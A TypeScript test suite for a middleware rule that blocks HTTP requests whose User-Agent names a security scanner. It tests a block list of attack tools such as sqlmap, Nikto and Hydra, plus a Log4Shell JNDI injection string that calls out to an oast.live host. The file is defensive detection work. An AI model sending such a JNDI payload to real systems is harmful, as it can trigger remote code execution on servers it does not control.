import assert from 'node:assert/strict'
import { readFileSync } from 'node:fs'
import { createRequire } from 'node:module'
import { describe, test } from 'node:test'
import browsers from 'top-user-agents'
import { badAgent, scannerAgents } from '../../lib/index.ts'
import { compileAgents } from '../../lib/match/agents/agents.ts'
import { brief, sites } from '../support/ask.ts'
import { get } from '../support/raw-client.ts'

const site = sites()
const isScanner = compileAgents(scannerAgents)

interface Crawler {
  pattern: string
  instances: string[]
  tags?: string[]
}
const crawlers = createRequire(import.meta.url)('crawler-user-agents') as Crawler[]

describe('badAgent() by default', () => {
  const bad = [
    'masscan/1.3 (https://github.com/robertdavidgraham/masscan)',
    'Mozilla/5.0 zgrab/0.x',
    'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)',
    'sqlmap/1.7.2#stable (https://sqlmap.org)',
    'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
    'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
    'httpx - Open-source project (github.com/projectdiscovery/httpx)',
    'gobuster/3.6',
    'WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)',
    'feroxbuster/2.10.0',
    'Fuzz Faster U Fool v2.1.0',
    'DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)',
    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
    'Mozilla/4.0 (Hydra)',
    'ZmEu',
    'Hello, World',
    'libredtail-http',
    // crawler-user-agents 1.60.0
    'air.ai/scanning Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Chrome/126.0.0.0 Safari/537.36',
    'Mozilla/5.0 (compatible; ModatScanner/1.2; +https://modat.io/)',
    'RepoLookoutBot/v1.1.0-297-gcf436d3 (abuse reports to abuse@repo-lookout.org)',
    'Mozilla/5.0 (compatible; WPSec/1.3; +https://wpsec.com)',
    // The fixtures of matomo-org/device-detector, Tests/fixtures/bots.yml
    'PunkMap (https://github.com/openeasm/punkmap)',
    'Mozilla/5.0 (compatible; SnoopSecInspect/1.1; +https://snoopsec.us.to/)',
    'Mozilla/5.0 (compatible; FreePBX-Scanner/1.0)',
    'Mozilla/5.0 (compatible; NetScope-DomainScanner/1.0; security research scanner)',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: Log4Shell, as it is sent
    '${jndi:ldap://${hostName}.useragent.xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx.oast.live}',
  ]
  for (const agent of bad) {
    test(`drops ${agent}`, async () => {
      const to = await site([badAgent()])
      const outcome = await to.ask('/', { 'User-Agent': agent })
      assert.ok(
        outcome !== 'pass' && outcome.reason === 'bad-agent' && scannerAgents.includes(outcome.detail ?? ''),
      )
    })
  }

  test('drops the empty, blank and missing agent', async () => {
    const to = await site([badAgent()])
    assert.equal(brief(await to.ask('/', { 'User-Agent': '' })), 'empty-agent')
    assert.equal(brief(await to.ask('/', { 'User-Agent': ' \t ' })), 'empty-agent')
    assert.equal(
      brief(await to.outcome('GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n')),
      'empty-agent',
    )
  })

  const good = [
    'curl/8.5.0',
    'Wget/1.21.4',
    'python-requests/2.32.0',
    'python-httpx/0.27.0',
    'Python-urllib/3.12',
    'aiohttp/3.9.5',
    'Go-http-client/1.1',
    'okhttp/4.12.0',
    'axios/1.7.2',
    'node-fetch/1.0',
    'undici',
    'Java/17.0.2',
    'Apache-HttpClient/4.5.14 (Java/17)',
    'libwww-perl/6.77',
    'Ruby',
    'Faraday v2.9.0',
    'GuzzleHttp/7',
    'Dalvik/2.1.0 (Linux; U; Android 14)',
    'Scrapy/2.11 (+https://scrapy.org)',
    'HTTPie/3.2.2',
    'PostmanRuntime/7.39.0',
    'WordPress/6.5; https://example.com',
    'ELB-HealthChecker/2.0',
    'GoogleHC/1.0',
    'kube-probe/1.30',
    'Discourse Forum Onebox v3',
    'Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
    'Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)',
    'Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)',
    'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
    'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0',
    'Lynx/2.9.0 libwww-FM/2.14',
  ]
  test('passes browsers, HTTP libraries and monitors by their own names', () => {
    for (const agent of good) assert.equal(isScanner(agent), undefined, agent)
  })

  test('passes every search engine, preview, monitor and feed reader of crawler-user-agents', () => {
    const kinds = [
      'search-engine',
      'social-preview',
      'monitoring',
      'feed-reader',
      'http-library',
      'ai-crawler',
      'seo',
      'archiver',
      'advertising',
      'academic',
    ]
    let checked = 0
    for (const { instances, tags = [] } of crawlers) {
      if (tags.includes('scanner') || !tags.some(tag => kinds.includes(tag))) continue
      for (const agent of instances) {
        checked++
        // The list calls them academic, SEO and monitoring; they scan the whole Internet.
        const found = isScanner(agent)
        if (found && ['InternetMeasurement', 'getodin.com', 'ModatScanner', 'RepoLookoutBot'].includes(found))
          continue
        assert.equal(found, undefined, agent)
      }
    }
    assert.ok(checked > 300, `${checked} agents`)
  })

  test('passes the browsers that are used most', () => {
    assert.ok(browsers.length > 50)
    for (const agent of browsers) assert.equal(isScanner(agent), undefined, agent)
  })

  test('passes what only looks like a name of the list', () => {
    const alike = [
      'fair.ai/scanning',
      'WPSecScan/osv',
      'PostPunkMap/1.0',
      'MyModatScanners',
      '$jndi:',
      '{jndi:',
    ]
    for (const agent of alike) assert.equal(isScanner(agent), undefined, agent)
  })

  test('passes every agent of a real log but the empty ones', () => {
    const sample = readFileSync(new URL('../../examples/demo/access-sample.log', import.meta.url), 'latin1')
    const agents = sample.split('\n').map(line => line.split('"')[5] ?? '')
    assert.ok(agents.length > 100)
    for (const agent of agents) assert.equal(isScanner(agent), undefined, agent)
  })
})

describe('options', () => {
  test('patterns take the place of the defaults; strings are whole words in any case', async () => {
    const to = await site([
      badAgent({ patterns: ['disco', /^evil\/\d/g, { pattern: 'Bot[0-9]' }, 'a+b', '(compatible;'] }),
    ])
    const cases: [string, string][] = [
      ['Disco/1.0', 'bad-agent: disco'],
      ['Discourse Forum', 'pass'],
      ['mydisco', 'pass'],
      ['x DISCO y', 'bad-agent: disco'],
      ['evil/1', 'bad-agent: /^evil\\/\\d/g'],
      ['evil/1', 'bad-agent: /^evil\\/\\d/g'],
      ['Evil/1', 'pass'],
      ['MyBot7', 'bad-agent: Bot[0-9]'],
      ['mybot7', 'pass'],
      ['x a+b', 'bad-agent: a+b'],
      ['aab', 'pass'],
      ['Mozilla/5.0 (compatible; X)', 'bad-agent: (compatible;'],
      ['sqlmap/1.7', 'pass'],
    ]
    for (const [agent, expected] of cases)
      assert.equal(brief(await to.ask('/', { 'User-Agent': agent })), expected, agent)
  })

  test('each request of a connection is judged by its own agent, and by each rule', async () => {
    const long = 'x'.repeat(600)
    const agents = ['a', 'a', 'Nikto/2', 'a', 'sqlmap/1', `${long}nikto`, `${long} Nikto/2`, '', 'sqlmap/1']
    const rules = [badAgent({ dryRun: true }), badAgent({ patterns: ['a'], empty: false, dryRun: true })]
    const to = await site(rules)
    const requests = agents.map((agent, i) => get(`/${i}`, { 'User-Agent': agent }))
    await to.send(requests.join('') + get('/last', { 'User-Agent': 'a', Connection: 'close' }))
    assert.equal(to.calls.length, agents.length + 1)
    const told = to.events.map(({ url, detail }) => `${url} ${detail}`)
    assert.deepEqual(told, [
      '/0 a',
      '/1 a',
      '/2 nikto',
      '/3 a',
      '/4 sqlmap',
      '/6 nikto',
      '/7 undefined',
      '/8 sqlmap',
      '/last a',
    ])
  })

  test('allow wins', async () => {
    const to = await site([badAgent({ patterns: [...scannerAgents, 'bot'], allow: ['nikto', /our-\w+/] })])
    assert.equal(await to.ask('/', { 'User-Agent': 'Nikto/2' }), 'pass')
    assert.equal(await to.ask('/', { 'User-Agent': 'our-scanner masscan' }), 'pass')
    assert.equal(brief(await to.ask('/', { 'User-Agent': 'a bot' })), 'bad-agent: bot')
  })

  test('empty: false lets the missing agent pass', async () => {
    const to = await site([badAgent({ empty: false })])
    assert.equal(await to.outcome('GET / HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n'), 'pass')
    assert.equal(await to.ask('/', { 'User-Agent': '' }), 'pass')
  })

  test('the patterns of crawler-user-agents work as they are', () => {
    const match = compileAgents(crawlers)
    for (const { instances, pattern } of crawlers) {
      for (const agent of instances) {
        if (new RegExp(pattern).test(agent)) assert.ok(match(agent), agent)
      }
    }
  })

  test('a pattern that would match nearly everything is refused', () => {
    for (const pattern of ['', ' ', '/', { pattern: '' }, { pattern: '.' }, { pattern: '(a' }, {}, null, 1]) {
      assert.throws(() => badAgent({ patterns: [pattern as string] }), { code: 'DROP444_INVALID_ENTRY' })
    }
  })
})
